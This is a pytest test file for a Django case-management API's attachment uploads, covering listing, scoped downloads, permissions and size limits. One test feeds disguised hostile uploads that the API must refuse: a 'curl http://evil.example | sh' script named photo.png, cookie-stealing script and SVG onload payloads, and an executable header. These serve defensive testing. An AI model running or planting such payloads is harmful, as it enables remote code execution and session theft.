"""Attachments through the API: listed on the case, added by staff with the console's checks."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from hotline.cases.models import Attachment, CaseEvent
from hotline.console.attachments import MAX_BYTES
from hotline.testing import new_case

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def upload(api, user, number, *files):
    client = api.as_(user)
    return client.client.post(f"/api/v1/cases/{number}/attachments",
                              {"file": [SimpleUploadedFile(name, content) for name, content in files]},
                              headers=client._headers({}))


def test_staff_attach_files_and_see_them_listed_with_a_scoped_download(api, city, client):
    case = new_case(city)
    response = upload(api, city.market_handler, case.number, ("现场照片.png", PNG), ("检查记录.pdf", PDF))
    assert response.status_code == 201, response.content[:500]
    listed = response.json()["attachments"]
    assert [(a["name"], a["size"], a["content_type"]) for a in listed] == [
        ("现场照片.png", len(PNG), "image/png"), ("检查记录.pdf", len(PDF), "application/pdf")]
    assert listed[0]["uploaded_by"] == "市场监管承办人"
    # The same list on the case, for anyone who may see it.
    again = api.as_(city.dispatcher).get(f"/cases/{case.number}").json()["attachments"]
    assert again == listed
    note = CaseEvent.objects.get(case=case, verb="attachments_added")
    assert [f["name"] for f in note.data["files"]] == ["现场照片.png", "检查记录.pdf"]
    assert set(Attachment.objects.values_list("event_id", flat=True)) == {note.pk}
    case.refresh_from_db()
    assert case.status == "dispatched" and case.version == 2  # a note: no status change, no new version
    # The URL is the case page's file view: the file for who may see the case, 404 for others.
    client.force_login(city.market_handler2)
    download = client.get(listed[1]["url"])
    assert download.status_code == 200 and b"".join(download.streaming_content) == PDF
    client.force_login(city.urban_handler)
    assert client.get(listed[1]["url"]).status_code == 404


@pytest.mark.parametrize("name, content", [
    ("photo.png", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    ("report.pdf", b"<script>alert(document.cookie)</script>"),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00"),
    ("notes.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
])
def test_a_script_or_program_is_refused_and_nothing_is_stored(api, city, name, content):
    case = new_case(city)
    response = upload(api, city.market_handler, case.number, ("ok.png", PNG), (name, content))
    assert response.status_code == 422, response.content[:300]
    error = response.json()["error"]
    assert error["fields"][0]["field"] == "attachments" and name in error["message"]
    assert not Attachment.objects.exists()
    assert not CaseEvent.objects.filter(verb="attachments_added").exists()


def test_size_count_and_missing_file_limits(api, city):
    case = new_case(city)
    big = upload(api, city.market_handler, case.number, ("big.png", PNG + b"\x00" * (MAX_BYTES - len(PNG) + 1)))
    assert big.status_code == 422 and "10 MB" in big.json()["error"]["message"]
    many = upload(api, city.market_handler, case.number, *[(f"{i}.png", PNG) for i in range(6)])
    assert many.status_code == 422
    client = api.as_(city.market_handler)
    none = client.client.post(f"/api/v1/cases/{case.number}/attachments", {}, headers=client._headers({}))
    assert none.status_code == 422
    assert not Attachment.objects.exists()


def test_who_may_attach(api, city):
    case = new_case(city)
    assert upload(api, city.urban_handler, case.number, ("a.png", PNG)).status_code == 404  # not their case
    assert upload(api, city.leader, case.number, ("a.png", PNG)).status_code == 403  # reads only
    assert upload(api, city.auditor, case.number, ("a.png", PNG)).status_code == 403
    assert upload(api, None, case.number, ("a.png", PNG)).status_code == 401
    assert upload(api, city.agent, case.number, ("a.png", PNG)).status_code == 201
    assert Attachment.objects.count() == 1
